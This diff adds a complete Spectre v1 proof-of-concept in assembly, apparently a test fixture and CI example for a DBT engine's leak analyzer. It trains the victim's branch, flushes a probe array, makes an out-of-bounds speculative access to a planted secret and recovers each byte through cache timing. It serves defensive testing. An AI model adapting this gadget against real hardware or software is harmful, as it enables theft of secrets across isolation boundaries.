@@ -1,0 +1,100 @@
+# A Spectre v1 gadget as text assembly — the `.s` twin of
+# `dbt_attacks::spectre_v1::build(b"GhostBusters")`.
+#
+# This file mirrors the Rust builder's emission sequence statement for
+# statement, so `parse_asm` reassembles it byte-identically to the
+# in-repo proof-of-concept (the golden test in tests/program_service.rs
+# asserts exactly that). It is also the ad-hoc upload used by the CI
+# daemon smoke test:
+#
+#   lab submit upload examples/spectre_v1_gadget.s --addr HOST:PORT
+#   lab submit analyze fp:<fingerprint>  --addr HOST:PORT   # flags the leak
+#   lab analyze examples/spectre_v1_gadget.s                # same, locally
+#
+# The victim is the classic bounds-checked double access: under biased
+# training the DBT engine builds a speculating superblock that hoists
+# both loads above the bounds check, and the out-of-bounds call leaks
+# one secret byte per outer iteration into the cache side channel.
+
+# --- data layout (order matters: it fixes the guest addresses) --------
+.data buffer, 16                 # the victim's legitimate buffer
+.word size, 16                   # bounds-check limit
+.ascii secret, "GhostBusters"    # planted right behind the buffer
+.data recovered, 12              # where the attacker stores its bytes
+.data probe, 16384, 64           # 256 entries x 64-byte stride, line-aligned
+
+# --- the victim: a0 = index ------------------------------------------
+    j main
+victim:
+    la t0, size
+    ld t0, 0(t0)
+    bgeu a0, t0, skip            # the bypassable bounds check
+    la t1, buffer
+    add t1, t1, a0
+    lbu t2, 0(t1)                # secret-dependent load...
+    slli t2, t2, 6
+    la t3, probe
+    add t3, t3, t2
+    lbu t4, 0(t3)                # ...transmitted into the cache
+skip:
+    ret
+
+# --- the attacker ----------------------------------------------------
+main:
+    li s0, 0                     # s0 = secret byte index
+    li s1, 12                    # s1 = secret length
+outer:
+    # training: in-bounds calls bias the branch and heat the block
+    li s6, 0
+train:
+    andi a0, s6, 15
+    call victim
+    addi s6, s6, 1
+    li t0, 24
+    blt s6, t0, train
+
+    # flush every probe-entry line
+    li s2, 0
+    la s3, probe
+flush:
+    slli t0, s2, 6
+    add t0, s3, t0
+    cflush 0(t0)
+    addi s2, s2, 1
+    li t1, 256
+    blt s2, t1, flush
+
+    # the malicious call: index = &secret + s0 - &buffer
+    la t0, secret
+    add t0, t0, s0
+    la t1, buffer
+    sub a0, t0, t1
+    call victim
+
+    # timed reload: keep the fastest probe entry in s4
+    li s4, 0
+    li s5, 1073741824
+    li s2, 1
+    la s3, probe
+probe_head:
+    slli t0, s2, 6
+    add t0, s3, t0
+    rdcycle t1
+    lbu t2, 0(t0)
+    rdcycle t3
+    sub t3, t3, t1
+    bgeu t3, s5, probe_next
+    mv s5, t3
+    mv s4, s2
+probe_next:
+    addi s2, s2, 1
+    li t1, 256
+    blt s2, t1, probe_head
+
+    # record the byte and advance
+    la t0, recovered
+    add t0, t0, s0
+    sb s4, 0(t0)
+    addi s0, s0, 1
+    blt s0, s1, outer
+    ecall
